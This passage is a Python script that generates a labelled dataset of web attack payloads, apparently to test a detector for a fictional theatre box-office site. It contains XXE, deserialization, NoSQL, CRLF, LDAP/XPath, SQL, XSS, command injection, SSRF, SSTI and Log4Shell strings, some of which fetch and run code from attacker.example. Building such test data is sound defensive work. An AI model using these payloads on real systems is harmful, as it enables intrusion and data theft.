csv-formula-webservice ⟫ =WEBSERVICE("https://attacker.example/x?"&A2)
csv-formula-importxml ⟫ =IMPORTXML(CONCAT("https://attacker.example/?v=",A2),"//a")
xxe-file ⟫ <?xml version="1.0"?><!DOCTYPE show [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><show><title>&xxe;</title></show>
xxe-ssrf ⟫ <!DOCTYPE venue [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><venue>&x;</venue>
xxe-parameter-oob ⟫ <!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/evil.dtd"> %d;]><r/>
xxe-php-filter ⟫ <!DOCTYPE b [<!ENTITY f SYSTEM "php://filter/read=convert.base64-encode/resource=/var/www/config.php">]><booking>&f;</booking>
xinclude ⟫ <tour xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></tour>
xxe-billion-laughs ⟫ <!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>
yaml-python ⟫ !!python/object/apply:os.system ["id"]
yaml-python-new ⟫ tour: !!python/object/new:subprocess.check_output [["cat", "/etc/passwd"]]
yaml-snakeyaml ⟫ !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
yaml-python-popen ⟫ !!python/object/apply:subprocess.Popen [["sh", "-c", "curl attacker.example/y|sh"]]
pickle-base64 ⟫ gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
java-xmldecoder ⟫ <java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>
dotnet-typename-json ⟫ {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}
jackson-polymorphic ⟫ ["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/Obj","autoCommit":true}]
fastjson-autotype ⟫ {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.51:1099/x","autoCommit":true}
php-serialized ⟫ O:8:"Settings":1:{s:4:"file";s:11:"/etc/passwd";}
php-serialized-phar ⟫ phar://uploads/puppet-photos/fox.jpg/test.txt
node-serialize-iife ⟫ {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
## nosqli
mongo-ne-operator ⟫ {"email":"boxoffice@lanternfold.example.org","password":{"$ne":null}}
mongo-gt-operator ⟫ {"username":{"$gt":""},"password":{"$gt":""}}
mongo-regex ⟫ {"booking_ref":{"$regex":"^BO-5"}}
mongo-regex-password ⟫ {"user":"admin","password":{"$regex":"^a.*"}}
mongo-where-sleep ⟫ {"$where":"sleep(5000) || true"}
mongo-where-js ⟫ {"$where":"this.role == 'admin' || '1'=='1'"}
query-bracket-ne ⟫ password[$ne]=x
query-bracket-gt ⟫ user[$gt]=&password[$gt]=
query-bracket-regex ⟫ show[$regex]=.*&venue[$ne]=1
query-bracket-in ⟫ role[$in][]=admin&role[$in][]=staff
mongo-js-string-breakout ⟫ Fox'; return true; var x='
mongo-js-string-breakout ⟫ '; while(true){}; '
mongo-or-tautology ⟫ {"$or":[{"ticket_ref":"BO-1"},{"ticket_ref":{"$exists":true}}]}
mongo-nin ⟫ {"status":{"$nin":["cancelled"]},"email":{"$ne":""}}
mongo-expr ⟫ {"$expr":{"$eq":[1,1]}}
mongo-function ⟫ {"$where":"function(){ return db.getCollectionNames().length > 0 }"}
mongo-aggregate-lookup ⟫ [{"$lookup":{"from":"staff_users","localField":"x","foreignField":"x","as":"leak"}}]
mongo-exists ⟫ {"api_key":{"$exists":true}}
couch-selector ⟫ {"selector":{"_id":{"$gt":null}}}
elastic-script ⟫ {"script":{"source":"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')"}}
redis-eval ⟫ EVAL "return redis.call('CONFIG','GET','*')" 0
mongo-unicode-escape ⟫ {"password":{"\u0024ne":"x"}}
mongo-mapreduce-js ⟫ {"mapReduce":"bookings","map":"function(){emit(1,db.staff_users.find()[0])}","reduce":"function(k,v){return v}"}
mongo-ne-in-note ⟫ search fox & owl {"title":{"$ne":"x"}}
## crlf
log-forging-newline ⟫ Fox jaw fixed⏎2025-06-14 11:02:13 INFO admin login succeeded user=admin ip=10.0.0.1
log-forging-urlencoded ⟫ Moon Rabbit%0d%0a[INFO] refund approved order=BO-558213 amount=999.00
log-forging-lf-only ⟫ BO-44120%0a2025-06-14T11:00:00Z AUDIT role_change user=mira new_role=admin
header-set-cookie ⟫ en-GB%0d%0aSet-Cookie:%20session=attacker-fixed-session
header-location ⟫ /tickets%0d%0aLocation:%20https://attacker.example/phish
response-splitting ⟫ x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
response-splitting-raw ⟫ lang=cy⏎Content-Type: text/html⏎⏎<html>Box office closed. Pay at https://attacker.example</html>
header-injection-xss-protect ⟫ %0d%0aX-XSS-Protection:%200%0d%0a%0d%0a<svg onload=alert(1)>
header-acao ⟫ %0D%0AAccess-Control-Allow-Origin:%20https://attacker.example%0D%0AAccess-Control-Allow-Credentials:%20true
header-cache-poison ⟫ /seats%0d%0aX-Forwarded-Host:%20attacker.example
double-urlencoded+doubleurlencode ⟫ /shows%250d%250aSet-Cookie:%2520admin=1
unicode-crlf ⟫ /fox%E5%98%8A%E5%98%8DSet-Cookie:%20x=1
percent-u-crlf ⟫ /tickets%u000d%u000aLocation:%20//attacker.example
lf-only-header ⟫ en%0aSet-Cookie:csrftoken=fixed
cr-only-header ⟫ en%0dRefresh:%200;url=https://attacker.example/
mail-header-bcc ⟫ jo.mcallister@example.com%0d%0aBcc:%20list@attacker.example
mail-header-bcc-raw ⟫ Booking query⏎Bcc: everyone@attacker.example
mail-header-cc ⟫ school@example.org%0aCc:%20collector@attacker.example
mail-header-subject-body ⟫ Refund%0d%0aContent-Type:%20text/html%0d%0a%0d%0aYour refund is pending, confirm card at https://attacker.example/r
mail-header-to-raw ⟫ teacher@stmarys-primary.example.org⏎To: victim1@example.net, victim2@example.net
mail-header-from-spoof ⟫ Workshop feedback%0d%0aFrom:%20Box%20Office%20<boxoffice@lanternfold.example.org>%0d%0aReply-To:%20pay@attacker.example
smtp-command-injection ⟫ x@example.com>%0d%0aRCPT TO:<victim@example.net>%0d%0aDATA%0d%0aSubject: free tickets%0d%0a%0d%0aclick%0d%0a.%0d%0a
log-forging-json-ish ⟫ note","level":"info","msg":"user admin granted"}⏎{"ts":"2025-06-14","note":"x
log-forging-ansi+urlencode ⟫ Fox%1b[2J%1b[1;1HSYSTEM OK: all payments reconciled
redis-protocol-crlf ⟫ fox%0d%0aCONFIG%20SET%20dir%20/var/www/html%0d%0a
header-injection-host-param ⟫ harbour-hall%0d%0aHost:%20internal-admin.local
http-request-smuggling-te ⟫ x%0d%0aTransfer-Encoding:%20chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20localhost%0d%0a%0d%0a
## ldap-xpath
ldap-wildcard-user ⟫ *
ldap-or-tautology ⟫ mira)(|(uid=*))
ldap-and-close ⟫ *)(uid=*))(|(uid=*
ldap-password-bypass ⟫ admin)(&(password=*))
ldap-attribute-probe ⟫ jonah)(userPassword=a*)
ldap-objectclass ⟫ *)(objectClass=*
ldap-memberof ⟫ priya)(memberOf=cn=admins,ou=groups,dc=lanternfold,dc=example
ldap-null-byte ⟫ admin)%00
ldap-mail-wildcard ⟫ *)(|(mail=*@lanternfold.example.org)
ldap-description-leak ⟫ *)(description=*password*
xpath-or-tautology ⟫ ' or '1'='1
xpath-or-tautology-numeric ⟫ 1 or 1=1
xpath-login-bypass ⟫ admin' or '1'='1' or 'a'='a
xpath-node-extract ⟫ ' or count(/*)=1 or 'a'='b
xpath-substring-blind ⟫ ' or substring(//user[1]/password,1,1)='a' or 'x'='y
xpath-name-probe ⟫ ' or name(/*[1])='shows' and '1'='1
xpath-union-nodes ⟫ fox'] | //staff/* | //show[title='x
xpath-doc-function ⟫ ' or doc('http://attacker.example/x.xml') or '1'='1
"""

# ONE template per category: hand-written theme prefix + hand-written payload.
TEMPLATE = {
    "sqli": (["Fox & Lantern ", "BO-60213", "Harbour Hall", "owl wing v2", "Year 3 "],
             [("tpl-union-select", "' UNION SELECT email,password FROM staff_users--"),
              ("tpl-boolean", "' OR 'a'='a' -- "),
              ("tpl-time-mysql", "' AND SLEEP(6)#"),
              ("tpl-stacked-mssql", "'; WAITFOR DELAY '0:0:5';--")]),
    "xss": (["Loved it! ", "Mira Hale ", "Sound cue 14 ", "Fox scarf colour ", "Row B seat 4 "],
            [("tpl-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
             ("tpl-svg-onload", "<svg onload=alert(1)>"),
             ("tpl-script", "<script>alert(origin)</script>"),
             ("tpl-attr-breakout", "\"><details open ontoggle=alert(1)>")]),
    "cmdi": (["fox_poster.png", "tour_dates.csv", "owl_wing.svg", "seatmap_v2.json"],
             [("tpl-semicolon", "; cat /etc/passwd"),
              ("tpl-subshell", "$(curl -s http://attacker.example/t|sh)"),
              ("tpl-and", " && id"),
              ("tpl-windows-amp", " & type C:\\Windows\\win.ini")]),
    "traversal": (["Builds/2025/Fox/", "exports/", "assets/img/", "seatmaps/"],
                  [("tpl-dotdot", "../../../../etc/passwd"),
                   ("tpl-dotdot-windows", "..\\..\\..\\..\\Windows\\win.ini"),
                   ("tpl-encoded+urlencode", "..%2f..%2f..%2f..%2fetc%2fshadow")]),
    "ssrf": (["Sync calendar from ", "Photo: ", "Webhook URL: ", "Import venue list: "],
             [("tpl-metadata", "http://169.254.169.254/latest/meta-data/"),
              ("tpl-localhost", "http://127.0.0.1:8080/admin"),
              ("tpl-decimal-ip", "http://2130706433/server-status")]),
    "code": (["Hi {{first_name}}, ", "Reminder for ", "Note: ", "Tour week 3 "],
             [("tpl-log4shell", "${jndi:ldap://attacker.example:1389/t}"),
              ("tpl-ssti-jinja2", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
              ("tpl-ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
              ("tpl-spel", "#{T(java.lang.Runtime).getRuntime().exec('id')}")]),
    "nosqli": (["password[$ne]=", "email[$gt]=", "ref[$regex]="],
               [("tpl-query-operator", ""), ("tpl-query-operator-wild", ".*")]),
    "crlf": (["Fox jaw fixed", "BO-558213", "en-GB"],
             [("tpl-log-forge", "%0d%0a[INFO] admin login ok user=admin"),
              ("tpl-set-cookie", "%0d%0aSet-Cookie:%20sid=fixed")]),
    "ldap-xpath": (["mira", "jonah", "boxoffice"],
                   [("tpl-ldap-or", ")(|(uid=*))"), ("tpl-ldap-pw", ")(userPassword=*)")]),
}


def parse_literals(text):
    cats, cur = {}, None
    for line in text.split("\n"):
        if line.startswith("## "):
            cur = line[3:].strip()
            cats[cur] = []
        elif line.strip() and cur:
            cls, val = line.split(" ⟫ ", 1)
            cats[cur].append((cls.strip(), val.replace("⏎", "\r\n")))
    return cats


def main():
    rng = random.Random(SEED)
    lits = parse_literals(LITERALS)
    rows = []
    n = 0
    for cat in TARGETS:
        items = list(dict.fromkeys(lits[cat]))
        seen = {v for _, v in items}
        prefixes, payloads = TEMPLATE[cat]
        combos = [(p, c, v) for p in prefixes for c, v in payloads]
        rng.shuffle(combos)
        for p, c, v in combos:
            if len(items) >= TARGETS[cat]:
                break
            val = p + v
            if val not in seen:
                seen.add(val)
                items.append((c, val))
        assert len(items) == TARGETS[cat], (cat, len(items))
        for cls, val in items:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                         "label": "attack", "value": val})
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
